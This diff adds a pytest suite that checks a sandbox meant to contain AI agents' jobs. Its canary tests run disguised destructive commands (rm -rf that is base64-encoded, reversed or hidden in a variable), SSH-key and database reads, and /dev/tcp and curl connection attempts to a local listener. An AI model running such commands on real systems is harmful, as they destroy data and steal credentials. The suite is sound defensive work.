@@ -1,0 +1,234 @@
+"""Agents' jobs contained by structure (corral/sandbox.py), executed for real in
+bubblewrap on the local backend: attacks in several disguises against a canary home,
+canary credentials, corral's own state and a canary listener, and what must keep
+working. Needs bwrap (scripts/sandbox-up); under CI its absence fails the run."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import socket
+import subprocess
+import tempfile
+import threading
+from pathlib import Path
+from typing import Iterator
+
+import pytest
+
+from corral.errors import InvalidRequest, SandboxUnavailable
+from corral.sandbox import Sandbox, build
+
+from .conftest import Gateway, running
+
+SECRET = "CANARY-7f3a9e-private-key"
+
+
+def need_bwrap() -> None:
+    if shutil.which("bwrap") is None:
+        if os.environ.get("CI") == "true":
+            pytest.fail("bubblewrap is required under CI; make test runs scripts/sandbox-up first")
+        pytest.skip("no bubblewrap here: run scripts/sandbox-up (as root)")
+
+
+@pytest.fixture
+def canary(tmp_path) -> Iterator[dict[str, Path]]:
+    """A home with credentials and a project, and a world-writable work directory (the
+    job may run as an unprivileged user)."""
+    home = tmp_path / "canary-home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text(SECRET)
+    (home / "project").mkdir()
+    (home / "project" / "paper.tex").write_text("results")
+    work = Path(tempfile.mkdtemp(prefix="corral-sbx-work-", dir="/tmp"))
+    work.chmod(0o777)
+    yield {"home": home, "work": work}
+    shutil.rmtree(work, ignore_errors=True)
+
+
+@pytest.fixture
+def gateway(tmp_path, canary) -> Iterator[Gateway]:
+    """The default gateway (agents sandboxed), whose own HOME is the canary home."""
+    need_bwrap()
+    with running(tmp_path, HOME=str(canary["home"])) as gw:
+        yield gw
+
+
+def pair(gw: Gateway) -> dict[str, str]:
+    """A person, alice, and her agent bot1 -> name: token."""
+    with gw.http() as h:
+        for body in ({"name": "alice", "kind": "human"}, {"name": "bot1", "kind": "agent", "sponsor": "alice"}):
+            assert h.post("/v1/principals", json=body).status_code == 201
+        return {n: h.post("/v1/tokens", json={"for": n, "expires": "1h"}).json()["token"] for n in ("alice", "bot1")}
+
+
+def run_job(gw: Gateway, token: str, command: str, workdir: Path) -> dict:
+    """Run it to its end; a command the policy refuses (detection, the other layer) is
+    reported as refused: nothing ran."""
+    with gw.http(token) as h:
+        r = h.post("/v1/jobs", json={"command": command, "workdir": str(workdir), "walltime": "30s"})
+        if r.status_code == 403:
+            return {"state": "REFUSED", "out": "", "err": r.json()["error"]["message"]}
+        assert r.status_code == 201, r.text
+        job = h.get(f"/v1/jobs/{r.json()['id']}/wait", params={"timeout": 60}).json()
+        out = h.get(f"/v1/jobs/{job['id']}/output").json()["data"]
+        err = h.get(f"/v1/jobs/{job['id']}/output", params={"stream": "stderr"}).json()["data"]
+    return {**job, "out": out, "err": err}
+
+
+ATTACKS = {
+    "rm of the home": "rm -rf {home}/project",
+    "rm hidden in a variable through sh": "X='rm -rf {home}/project'; sh -c \"$X\"",
+    "rm reversed into a shell": "echo 'tcejorp/{rhome} fr- mr' | rev | sh",
+    "rm through base64": "echo {b64} | base64 -d | bash",
+    "overwrite with python": "python3 -c \"open('{home}/project/paper.tex', 'w').write('gone')\"",
+    "overwrite with find -delete": "find {home}/project -type f -delete",
+    "write into /etc": "echo owned > /etc/corral-canary",
+    "persistence in the home": "mkdir -p {home}/.config && echo x >> {home}/.bashrc",
+}
+
+
+def test_attacks_executed_change_nothing_outside_the_job(gateway: Gateway, canary) -> None:
+    import base64
+
+    t = pair(gateway)
+    home = canary["home"]
+    fill = {"home": home, "rhome": str(home)[::-1], "b64": base64.b64encode(f"rm -rf {home}/project".encode()).decode()}
+    ran = 0
+    for name, attack in ATTACKS.items():
+        job = run_job(gateway, t["bot1"], attack.format(**fill), canary["work"])
+        assert (home / "project" / "paper.tex").read_text() == "results", name
+        assert not (home / ".bashrc").exists(), name
+        assert not Path("/etc/corral-canary").exists(), name
+        assert job["state"] in ("FAILED", "COMPLETED", "REFUSED"), (name, job)
+        ran += job["state"] != "REFUSED"
+    assert ran >= 4  # most disguises pass the policy's parser: the sandbox is what held
+
+
+def test_secrets_and_corral_state_are_not_readable(gateway: Gateway, canary) -> None:
+    t = pair(gateway)
+    ran = 0
+    for cmd in (f"cat {canary['home']}/.ssh/id_ed25519", f"cp -r {canary['home']}/.ssh . && cat .ssh/*",
+                f"python3 -c \"print(open('{canary['home']}/.ssh/id_ed25519').read())\"",
+                f"ls -la {gateway.home}; cat {gateway.home}/*.key {gateway.home}/corral.db | head -c 300",
+                # disguises the policy's parser lets through: the sandbox is what holds
+                f"D={canary['home']}/.s; python3 -c \"import glob; [print(open(f).read()) for f in glob.glob('$D'+'sh/*')]\"",
+                f"for f in {canary['home']}/.[s]sh/*; do cat $f; done",
+                f"tar c {canary['home']} 2>/dev/null | strings | head -50"):
+        job = run_job(gateway, t["bot1"], cmd, canary["work"])
+        ran += job["state"] != "REFUSED"
+        assert SECRET not in job["out"] + job["err"], cmd
+        assert "SQLite format" not in job["out"], cmd  # the gateway's database is not there
+        assert "admin.token" not in job["out"], cmd
+    assert ran >= 4, ran
+
+
+def test_no_connection_leaves_the_sandbox(gateway: Gateway, canary) -> None:
+    t = pair(gateway)
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    port = listener.getsockname()[1]
+    heard: list[bytes] = []
+
+    def accept() -> None:
+        while True:
+            try:
+                conn, _ = listener.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            heard.append(conn.recv(100))
+            conn.close()
+
+    threading.Thread(target=accept, daemon=True).start()
+    try:
+        for cmd in (f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')\"",
+                    f"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'",
+                    f"curl -s -m 2 http://127.0.0.1:{port}/ || true"):
+            job = run_job(gateway, t["bot1"], cmd, canary["work"])
+            assert job["state"] in ("FAILED", "COMPLETED"), job  # ran, and reached nothing
+    finally:
+        listener.close()
+    assert heard == []
+
+
+def test_other_processes_are_invisible_and_the_job_is_not_root(gateway: Gateway, canary) -> None:
+    t = pair(gateway)
+    sleeper = subprocess.Popen(["sleep", "60"])
+    try:
+        job = run_job(gateway, t["bot1"], f"kill -9 {sleeper.pid}; ps -e | wc -l; id -u", canary["work"])
+        assert sleeper.poll() is None  # still alive: the job's PID namespace holds only itself
+        lines = job["out"].split()
+        assert int(lines[0]) < 10, job  # ps sees a handful of processes, all its own
+        if os.geteuid() == 0:
+            assert lines[-1] == "65534", job  # a root gateway runs agents' jobs as nobody
+        else:
+            assert lines[-1] != "0"
+    finally:
+        sleeper.kill()
+
+
+def test_what_must_keep_working_inside(gateway: Gateway, canary) -> None:
+    t = pair(gateway)
+    work = canary["work"]
+    cmd = ("set -e; python3 -c 'print(sum(range(10)))' > sum.txt; mkdir -p /tmp/scratch; echo t > /tmp/scratch/f; "
+           "printf 'all:\\n\\techo built > built.txt\\n' > Makefile && make -s; "
+           "git init -q repo && cd repo && echo a > a && git add a && "
+           "git -c user.email=a@b -c user.name=bot commit -qm first && git log --oneline | wc -l; cat /tmp/scratch/f")
+    job = run_job(gateway, t["bot1"], cmd, work)
+    assert job["state"] == "COMPLETED", job
+    assert (work / "sum.txt").read_text() == "45\n" and (work / "built.txt").read_text() == "built\n"
+    assert job["out"].split() == ["1", "t"], job  # one commit; the private /tmp took a file
+
+
+def test_people_are_not_sandboxed_by_default(gateway: Gateway, canary, tmp_path) -> None:
+    t = pair(gateway)
+    target = tmp_path / "human-wrote-here"
+    job = run_job(gateway, t["alice"], f"echo mine > {target}", tmp_path)
+    assert job["state"] == "COMPLETED" and target.read_text() == "mine\n"
+    with gateway.http(t["bot1"]) as h:
+        info = h.get("/v1/facility").json()["sandbox"]
+    assert info["kinds"] == ["agent"] and info["available"] is True and "no network" in info["you"]
+
+
+def test_fail_closed_and_bad_profiles(tmp_path) -> None:
+    box = Sandbox(frozenset({"agent"}), (), why_not="bubblewrap is not installed (apt-get install bubblewrap)")
+    with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
+        box.require("agent")
+    box.require("human")  # people are not sandboxed: nothing to refuse
+    with pytest.raises(InvalidRequest, match="/no/such/dir"):
+        build(["agent"], [Path("/no/such/dir")], False, "nobody", [])
+    if os.geteuid() == 0:
+        with pytest.raises(InvalidRequest, match="no-such-user"):
+            build(["agent"], [], False, "no-such-user", [])
+
+
+def test_a_gateway_that_cannot_sandbox_refuses_agents_jobs(tmp_path) -> None:
+    """bwrap missing from PATH: agents' jobs are refused (503, saying what to install),
+    people's still run."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    for tool in ("bash", "sh", "python3", "setpriv", "true", "echo"):  # a PATH without bwrap
+        found = shutil.which(tool)
+        if found:
+            (bin_dir / tool).symlink_to(found)
+    with running(tmp_path, PATH=str(bin_dir)) as gw:
+        t = pair(gw)
+        with gw.http(t["bot1"]) as h:
+            r = h.post("/v1/jobs", json={"command": "true", "workdir": str(tmp_path)})
+            assert r.status_code == 503 and "bubblewrap" in r.json()["error"]["message"], r.text
+        with gw.http(t["alice"]) as h:
+            assert h.post("/v1/jobs", json={"command": "true", "workdir": str(tmp_path)}).status_code == 201
+
+
+def test_the_job_directory_is_handed_to_the_jobs_user(gateway: Gateway) -> None:
+    """A job that runs as nobody in its own directory (no workdir given) can write there."""
+    t = pair(gateway)
+    with gateway.http(t["bot1"]) as h:
+        r = h.post("/v1/jobs", json={"command": "echo in-own-dir > note.txt && cat note.txt", "walltime": "30s"})
+        job = h.get(f"/v1/jobs/{r.json()['id']}/wait", params={"timeout": 60}).json()
+        out = h.get(f"/v1/jobs/{job['id']}/output").json()["data"]
+    assert job["state"] == "COMPLETED" and out == "in-own-dir\n", (job, out)
